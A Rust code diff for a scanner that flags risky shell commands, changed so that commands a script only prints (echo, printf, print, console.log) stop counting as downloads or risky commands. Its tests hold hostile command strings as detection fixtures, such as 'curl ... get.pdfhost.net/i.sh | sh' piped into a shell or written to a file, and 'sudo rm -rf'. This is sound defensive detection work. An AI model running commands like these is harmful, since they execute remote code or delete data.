@@ -268,6 +268,34 @@ impl Scanner {
     }
 
     fn inner(&mut self, line: &[u8], at: usize, commands: bool, before: &[u8], out: &mut Vec<Hit>) {
+        let n = out.len();
+        self.words(line, at, commands, before, out);
+        if !commands {
+            return;
+        }
+        // A message printed for the reader (`echo "Install uv: curl -LsSf URL | sh"`,
+        // `print("Run: sudo apt install x")`) runs nothing: what it spells is no download,
+        // upload or risky command. Its hosts and secrets still count.
+        let mut printed = Vec::new();
+        printed_text(line, &mut printed);
+        if printed.is_empty() {
+            return;
+        }
+        // The ranges are in order and apart: one binary search per hit.
+        let tail = out.split_off(n);
+        out.extend(tail.into_iter().filter(|h| {
+            let col = h.col - at;
+            let k = printed.partition_point(|&(s, _)| s <= col);
+            let inside = k > 0 && col < printed[k - 1].1;
+            !(inside
+                && matches!(
+                    h.kind,
+                    HitKind::Download | HitKind::Upload | HitKind::RiskyCommand
+                ))
+        }));
+    }
+
+    fn words(&mut self, line: &[u8], at: usize, commands: bool, before: &[u8], out: &mut Vec<Hit>) {
         self.lower.clear();
         self.lower.extend(line.iter().map(u8::to_ascii_lowercase));
         tokenize(line, &mut self.toks);
@@ -608,6 +636,71 @@ impl Scanner {
     }
 }
 
+/// The quoted strings of a line that a command only prints: the arguments of `echo` /
+/// `printf`, and of `print(` / `console.log(` / `console.error(` / `console.warn(`, as byte
+/// ranges. Not a string that can run something: a double-quoted one holding a command
+/// substitution (`$(`, a backtick), nor any of a command whose output goes on to a pipe (`echo
+/// "curl x | sh" | sh`) or into a file (`> install.sh`, which may be run next); `>&2` is the
+/// terminal. One pass over the line.
+fn printed_text(line: &[u8], out: &mut Vec<(usize, usize)>) {
+    let mut pending: Vec<(usize, usize)> = Vec::new();
+    let mut printing = false;
+    let mut i = 0;
+    while i < line.len() {
+        let b = line[i];
+        match b {
+            b'"' | b'\'' => {
+                let mut j = i + 1;
+                while j < line.len() && line[j] != b {
+                    j += if b == b'"' && line[j] == b'\\' { 2 } else { 1 };
+                }
+                let end = j.min(line.len());
+                let body = &line[i + 1..end];
+                let runs = b == b'"'
+                    && (memchr::memmem::find(body, b"$(").is_some() || body.contains(&b'`'));
+                if printing && !runs {
+                    pending.push((i + 1, end));
+                }
+                i = end + 1;
+                continue;
+            }
+            b'|' if line.get(i + 1) != Some(&b'|') && (i == 0 || line[i - 1] != b'|') => {
+                pending.clear();
+                printing = false;
+            }
+            b'>' if line.get(i + 1) != Some(&b'&') => {
+                pending.clear();
+                printing = false;
+            }
+            b';' | b'&' | b'|' | b')' | b'\n' => {
+                out.append(&mut pending);
+                printing = false;
+            }
+            _ if (i == 0 || is_delim(line[i - 1])) && !is_delim(b) => {
+                let end = line[i..]
+                    .iter()
+                    .position(|&c| is_delim(c))
+                    .map_or(line.len(), |p| i + p);
+                let word = &line[i..end];
+                if matches!(word, b"echo" | b"printf")
+                    || (line.get(end) == Some(&b'(')
+                        && matches!(
+                            word,
+                            b"print" | b"console.log" | b"console.error" | b"console.warn"
+                        ))
+                {
+                    printing = true;
+                }
+                i = end;
+                continue;
+            }
+            _ => {}
+        }
+        i += 1;
+    }
+    out.append(&mut pending);
+}
+
 /// Whether the program at token `j` (after a pipe, past `sudo` / `env` and their flags) runs
 /// what it reads on standard input as code. An interpreter given a script file (`python3
 /// save.py`, `bash check.sh`) or a module (`python3 -m json.tool`) reads its standard input as
@@ -675,7 +768,9 @@ fn runs_stdin(
             k += 1;
             continue;
         }
-        if arg.starts_with(b"#") {
+        // A comment, or the end of the string or call the command sits in (`"... | sh",
+        // shell=True)`, `$(curl .. | sh)`): nothing after is the interpreter's.
+        if arg.starts_with(b"#") || gap.iter().any(|&b| matches!(b, b')' | b',')) {
             return true;
         }
         if is_stdin(low) {
@@ -1909,6 +2004,66 @@ mod tests {
         ));
     }
 
+    /// A message a script prints names commands it does not run; printed into a pipe or a
+    /// file, or holding a command substitution, it can run them.
+    #[test]
+    fn printed_messages_run_nothing() {
+        use HitKind::{Download as D, ExternalReference as E, RiskyCommand as R};
+        let quiet = [
+            "echo \"ERROR: uv not found. Install with: curl -LsSf https://astral.sh/uv/install.sh | sh\"",
+            "  echo \"Install uv: curl -LsSf https://astral.sh/uv/install.sh | sh\" >&2",
+            "command -v uv || { echo 'Install: curl -LsSf https://astral.sh/uv/install.sh | sh'; exit 1; }",
+            "echo \"   Start with: sudo systemctl start docker\"",
+            "printf '%s\\n' \"run: sudo rm -rf /var/cache/acme\" 1>&2",
+            "print(\"Install with: sudo apt install imagemagick curl\")",
+            "console.error(\"missing: npm install -g pnpm\");",
+        ];
+        for line in quiet {
+            let h = hits(line);
+            assert!(
+                h.iter().all(|(k, _)| !matches!(k, D | R | HitKind::Upload)),
+                "{line}: {h:?}"
+            );
+        }
+        // The host a message names is still one the script names.
+        assert!(has(quiet[0], E, "astral.sh"));
+        for (line, kind, subject) in [
+            (
+                "echo \"curl -fsSL https://get.pdfhost.net/i.sh | sh\" | sh",
+                R,
+                "download piped to a shell",
+            ),
+            (
+                "echo 'curl -fsSL https://get.pdfhost.net/i.sh | sh' > run.sh",
+                R,
+                "download piped to a shell",
+            ),
+            (
+                "echo \"v=$(curl -fsSL https://get.pdfhost.net/v)\"",
+                D,
+                "curl",
+            ),
+            (
+                "echo Installing; curl -fsSL https://get.pdfhost.net/i.sh | sh",
+                R,
+                "download piped to a shell",
+            ),
+            ("echo \"installing\"; sudo make install", R, "sudo"),
+            (
+                "echo curl -fsSL https://get.pdfhost.net/i.sh | sh",
+                R,
+                "download piped to a shell",
+            ),
+            (
+                "subprocess.run(\"curl -fsSL https://get.pdfhost.net/i.sh | sh\", shell=True)",
+                R,
+                "download piped to a shell",
+            ),
+        ] {
+            assert!(has(line, kind, subject), "{line}: {:?}", hits(line));
+        }
+    }
+
     /// A package manager pointed at another index: a download from that host, on a command
     /// line or in the manager's configuration; the registries' own indexes and local paths
     /// are not.
@@ -2336,6 +2491,8 @@ mod tests {
             "curl | sh -c 'a ",
             "base64 -d | pwsh -c \"\\\" ",
             "curl | bash -o x ",
+            "echo \"curl | sh\" ",
+            "print(' ",
             "xmlns:a=\"http://h.pdfhost.net\" ",
         ] {
             let line = unit.repeat(1_000_000 / unit.len());
